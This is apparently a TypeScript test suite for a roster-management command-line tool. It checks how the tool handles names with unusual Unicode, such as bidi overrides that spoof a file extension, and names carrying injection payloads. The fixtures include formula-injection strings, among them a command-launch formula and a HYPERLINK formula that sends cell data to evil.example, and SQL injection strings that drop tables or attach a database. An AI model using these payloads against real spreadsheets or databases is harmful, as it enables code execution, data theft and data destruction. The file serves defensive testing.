import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { promisify } from 'node:util';
import type { Case, CaseTools } from './battery-case.ts';
import { ROSTER_HEADER, uscc } from './data.ts';
import { OPERATOR } from './fixtures.ts';
import { queryAll, type RunResult } from './harness.ts';
import type { Recorder } from './verdict.ts';
import { buildXlsx, readXlsxCells, type ReadCell } from './workbook.ts';

/** Categories 6 (documents with unusual names) and 12 (formula and SQL injection). */

const run = promisify(execFile);
const BIDI = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;
const CONTROL = /[\u0000-\u001f\u007f]/u;

async function pdfText(file: string): Promise<string> {
  const { stdout } = await run('pdftotext', ['-enc', 'UTF-8', file, '-'], { maxBuffer: 64 * 1024 * 1024 });
  return stdout;
}

const squash = (s: string) => s.normalize('NFC').replace(/[\s\u200b]+/g, '');

function json<T>(r: RunResult): T | null {
  try {
    return JSON.parse(r.stdout) as T;
  } catch {
    return null;
  }
}

const row = (code: string, name: string) => [code, name, '张三', '山西省大同市大同县西坪镇', '西坪镇', '个体工商户', '存续', 'B'];

// ---------------------------------------------------------------------------------------------
// 6. Notices for entities with unusual names

const LONG = '大同县' + '华兴隆盛泰丰源达鑫宏远恒通昌明福祥瑞安康和顺利发'.repeat(10).slice(0, 197);
const DOC_NAMES: [string, string, string, boolean][] = [
  ['ext-b', 'CJK Ext-B characters', '大同县𠀀𠀁𠀂商贸有限公司', true],
  ['emoji', 'emoji', '大同县😀🍜小吃店', true],
  ['long-200', '200-character name', LONG, true],
  ['long-200-ext-b', '200 characters, mostly Ext-B (800 bytes)', '大同县' + '𠀀'.repeat(197), false],
  ['long-200-emoji', '200 characters, mostly emoji', '大同县' + '😀'.repeat(197), false],
  ['rlo', 'U+202E right-to-left override', '大同县\u202E司公限有贸商', true],
  ['rlo-extension', 'U+202E spoofing a file extension', '大同县商店\u202Efdp.exe', false],
  ['isolates', 'bidi isolates and RLM', '大同县\u2066测试\u2069\u200F商店', false],
  ['zwj-emoji', 'ZWJ emoji sequences', '大同县👨‍👩‍👧‍👦家庭农场🏳️‍🌈', false],
  ['windows-forbidden', 'characters Windows forbids in file names', '大同县<测试>:"商/店\\|?*', false],
  ['trailing-dots', 'trailing dots and spaces', '大同县测试商店. . .', false],
  ['combining', 'combining marks', '大同县测\u0301\u0302\u0303试商店', false],
];

function docCase([id, title, name, quick]: (typeof DOC_NAMES)[number], index: number): Case {
  return {
    category: 6,
    id: `doc-${id}`,
    title: `notices for a name with ${title}`,
    quick,
    async run(t) {
      const db = t.copyDb();
      const code = uscc('92140226MA', index);
      const expected = squash(name.replace(BIDI, '').replace(new RegExp(BIDI.source, 'gu'), ''));
      t.rec.detail('name', name);
      const file = path.join(t.dir, '名录.xlsx');
      fs.writeFileSync(file, buildXlsx([{ name: '名录', rows: [ROSTER_HEADER, row(code, name)], inline: true }]));
      const imported = await t.cli(db, ['--json', 'entities', 'import', file, '--roster', '文书测试'], 'either');
      if (imported.code !== 0) return t.rec.detail('refusedAt', 'import');
      const refusedRow = json<{ errors?: { row: number; reason: string }[] }>(imported)?.errors?.find((e) => e.row === 2);
      if (refusedRow) {
        t.rec.detail('refusedAt', 'import row');
        t.rec.message(refusedRow.reason, 'row refusal');
        return;
      }
      const stored = queryAll<{ name: string }>(db, 'SELECT name FROM entities WHERE code = ?', code)[0]?.name;
      t.rec.detail('storedName', stored);
      const created = await t.cli(
        db,
        ['--json', 'tasks', 'create', '--name', '文书测试任务', '--item', '1', '--roster', '文书测试', '--count', '1'],
        'ok',
      );
      const task = json<{ code: string }>(created)?.code;
      if (!task) return;
      const drawn = await t.cli(db, ['draw', task, ...OPERATOR], 'ok');
      if (drawn.code !== 0) return;
      const out = path.join(t.dir, '通知书');
      fs.mkdirSync(out);
      const combined = path.join(t.dir, '合并打印.pdf');
      const r = await t.cli(
        db,
        ['--json', 'docs', 'notices', task, '--out', out, '--combined', combined, '--date', '2026-11-24'],
        'either',
      );
      if (r.timedOut) return;
      if (r.code !== 0) {
        const fragment = [...(stored ?? name).replace(new RegExp(BIDI.source, 'gu'), '')].slice(0, 8).join('');
        t.rec.check(
          r.stderr.includes(code) || r.stderr.includes(fragment),
          'the refusal does not name the entity (neither its code nor its name)',
        );
        return;
      }
      const files = fs.readdirSync(out);
      t.rec.detail('files', files);
      t.rec.check(files.length === 1, `expected 1 notice, found ${files.length}`);
      t.rec.check(!files.some((f) => f.startsWith('.shuangsuiji-')), 'a temporary folder was left in the output folder');
      for (const f of files.filter((x) => x.endsWith('.pdf'))) {
        const bytes = Buffer.byteLength(f, 'utf8');
        t.rec.check(bytes <= 255, `file name is ${bytes} bytes (> 255): ${f.slice(0, 60)}…`);
        t.rec.check(!BIDI.test(f), `file name contains a bidi control: ${JSON.stringify(f)}`);
        t.rec.check(!CONTROL.test(f), `file name contains a control character: ${JSON.stringify(f)}`);
        const text = squash(await pdfText(path.join(out, f)));
        t.rec.check(text.includes(expected), `the PDF text does not contain the name (pdftotext: …${text.slice(0, 120)}…)`);
      }
      if (fs.existsSync(combined)) {
        const text = squash(await pdfText(combined));
        t.rec.check(text.includes(expected), 'the combined PDF does not contain the name');
      } else t.rec.problem('the combined PDF was not written');
    },
  };
}

// ---------------------------------------------------------------------------------------------
// 12. Injection: formula strings in exports, SQL-like strings stored verbatim

const FORMULAS: [string, string][] = [
  ['cmd', "=cmd|' /C calc'!A0"],
  ['plus', '+1+1+注入甲'],
  ['minus', '-1-1-注入乙'],
  ['at-sum', '@SUM(1+1)*注入丙'],
  ['hyperlink', '=HYPERLINK("http://evil.example/?d="&A1,"点此查看注入丁")'],
  ['tab-equals', '\t=1+1注入戊'],
];
const SQLS: [string, string][] = [
  ['drop-table', "大同县'); DROP TABLE entities;--"],
  ['or-true', '大同县" OR "1"="1'],
  ['bobby', "Robert'); DELETE FROM items; --商店"],
  ['like-or', "%' OR 1=1 --商店"],
  ['wildcards', '大同县_%_商店'],
  ['attach', "1; ATTACH DATABASE '/tmp/pwn.db' AS pwn;--"],
  ['union', "' UNION SELECT sql FROM sqlite_master--"],
  ['backslash', "大同县\\'; --商店"],
];
const core = (v: string) => v.replace(/^[\t\r\n ]*[=+\-@]+/, '');

/** The cells of an export that hold `value`, and whether any of them could run as a formula. */
function checkNeutralised(rec: Recorder, cells: ReadCell[] | null, value: string, where: string): void {
  if (!cells) return;
  const c = core(value);
  const hits = cells.filter((x) => x.text.includes(c) || (x.formula ?? '').includes(c.slice(0, 12)));
  if (!rec.check(hits.length > 0, `${where}: the name was not found in the export`)) return;
  for (const h of hits) {
    if (h.formula !== null) rec.problem(`${where} ${h.ref}: exported as a FORMULA (${h.formula.slice(0, 60)})`);
    else if (/^[\t\r\n ]*[=+\-@]/.test(h.text) && !h.quotePrefix)
      rec.problem(`${where} ${h.ref}: text starts with "${h.text.trim()[0]}" and is not neutralised (no leading ' or quotePrefix)`);
  }
}

const injectionGroup: Case = {
  category: 12,
  id: 'injection',
  title: 'formula and SQL-like names',
  quick: true,
  group: true,
  async run(t: CaseTools) {
    const db = t.copyDb();
    const all = [...FORMULAS, ...SQLS].map(([id, value], i) => ({ id, value, code: uscc('92140227MA', i) }));
    const roster = path.join(t.dir, '注入.xlsx');
    fs.writeFileSync(roster, buildXlsx([{ name: '名录', rows: [ROSTER_HEADER, ...all.map((e) => row(e.code, e.value))], inline: true }]));
    const imported = await t.cli(db, ['--json', 'entities', 'import', roster, '--roster', '注入测试'], 'ok');
    const refused = json<{ errors?: { row: number; reason: string }[] }>(imported)?.errors ?? [];
    if (refused.length) t.rec.log(`rows refused at import: ${JSON.stringify(refused).slice(0, 300)}`);

    // Exports.
    const read = async (file: string, r: RunResult) => (r.code === 0 && fs.existsSync(file) ? readXlsxCells(fs.readFileSync(file)) : null);
    const entitiesXlsx = path.join(t.dir, '名录导出.xlsx');
    const exported = await t.cli(db, ['entities', 'export', entitiesXlsx, '--roster', '注入测试'], 'ok');
    const entityCells = await read(entitiesXlsx, exported);

    const task = json<{ code: string }>(
      await t.cli(
        db,
        [
          '--json',
          'tasks',
          'create',
          '--name',
          '注入测试任务',
          '--item',
          '1',
          '--roster',
          '注入测试',
          '--count',
          String(all.length - refused.length),
        ],
        'ok',
      ),
    )?.code;
    let pubCells: ReadCell[] | null = null;
    if (task) {
      await t.cli(db, ['draw', task, ...OPERATOR], 'ok');
      const results = path.join(t.dir, '结果.xlsx');
      fs.writeFileSync(
        results,
        buildXlsx([
          {
            name: '结果',
            rows: [['任务编号', '统一社会信用代码', '检查结果', '检查日期'], ...all.map((e) => [task, e.code, '1', '2026-12-01'])],
            inline: true,
          },
        ]),
      );
      await t.cli(db, ['results', 'import', results, '--skip-refused'], 'ok');
      const pub = path.join(t.dir, '公示.xlsx');
      pubCells = await read(pub, await t.cli(db, ['docs', 'publication', task, '--out', pub, '--date', '2026-12-20'], 'ok'));
    }
    const bad = path.join(t.dir, '错误行.xlsx');
    fs.writeFileSync(
      bad,
      buildXlsx([{ name: '名录', rows: [ROSTER_HEADER, ...FORMULAS.map(([, v], i) => row(`BAD${i}`, v))], inline: true }]),
    );
    const report = path.join(t.dir, '错误报告.xlsx');
    const reportCells = await read(report, await t.cli(db, ['--json', 'entities', 'import', bad, '--report', report], 'ok'));
    const items = path.join(t.dir, '事项.xlsx');
    fs.writeFileSync(
      items,
      buildXlsx([
        {
          name: '清单',
          rows: [
            ['序号', '抽查事项', '检查依据', '检查内容', '检查方式', '适用对象', '备注'],
            ...FORMULAS.map(([, v], i) => [String(15 + i), v, '依据', '内容', '现场检查', '对象', '市场监管执法事项']),
          ],
          inline: true,
        },
      ]),
    );
    await t.cli(db, ['items', 'import', items], 'ok');
    const itemsOut = path.join(t.dir, '事项导出.xlsx');
    const itemCells = await read(itemsOut, await t.cli(db, ['items', 'export', itemsOut], 'ok'));

    for (const [id, value] of FORMULAS) {
      for (const [slug, where, cells] of [
        ['entities-export', 'entities export', entityCells],
        ['publication-xlsx', '公示 .xlsx', pubCells],
        ['import-report', 'import error report', reportCells],
        ['items-export', 'items export', itemCells],
      ] as const) {
        const rec = t.sub(`formula-${id}-${slug}`, `${JSON.stringify(value)} in the ${where}`);
        if (!cells) rec.problem(`${where} was not produced (see the setup commands of injection)`);
        checkNeutralised(rec, cells, value, where);
      }
    }

    // SQL-like strings: stored verbatim, searched literally.
    for (const e of all.slice(FORMULAS.length)) {
      const rec = t.sub(`sql-${e.id}`, `${JSON.stringify(e.value)} stored verbatim and searched literally`);
      const stored = queryAll<{ name: string }>(db, 'SELECT name FROM entities WHERE code = ?', e.code)[0]?.name;
      rec.check(stored === e.value, `stored as ${JSON.stringify(stored)} instead of ${JSON.stringify(e.value)}`);
      const found = await t.cli(db, ['--json', 'entities', 'list', '--search', e.value], 'ok', { rec });
      const list = json<{ code: string }[]>(found) ?? [];
      rec.check(
        list.some((x) => x.code === e.code),
        'searching for the name does not find it',
      );
      const strays = list.filter((x) => x.code.startsWith('92140221MA'));
      rec.check(strays.length === 0, `searching for it also returns ${strays.length} unrelated seed entities`);
    }
    for (const term of ['%', '_', "' OR '1'='1"]) {
      const rec = t.sub(
        `search-${term === '%' ? 'percent' : term === '_' ? 'underscore' : 'or-true'}`,
        `search for ${JSON.stringify(term)} matches literally`,
      );
      const list = json<{ code: string }[]>(await t.cli(db, ['--json', 'entities', 'list', '--search', term], 'ok', { rec })) ?? [];
      const strays = list.filter((x) => x.code.startsWith('92140221MA'));
      rec.check(strays.length === 0, `returns ${strays.length} seed entities whose text has no ${JSON.stringify(term)}`);
    }
    const integrity = t.sub('sql-tables-intact', 'tables intact after the SQL-like names (items, entities, audit)');
    const counts = queryAll<{ items: number; entities: number }>(
      db,
      'SELECT (SELECT count(*) FROM items) AS items, (SELECT count(*) FROM entities) AS entities',
    )[0]!;
    integrity.check(counts.items >= 14 && counts.entities >= 20, `tables emptied: ${JSON.stringify(counts)}`);
    integrity.check(!fs.existsSync('/tmp/pwn.db'), '/tmp/pwn.db was created (ATTACH executed)');
    await t.cli(db, ['audit', 'verify'], 'ok', { rec: integrity });
  },
};

export function docCases(): Case[] {
  return [...DOC_NAMES.map((d, i) => docCase(d, i)), injectionGroup];
}
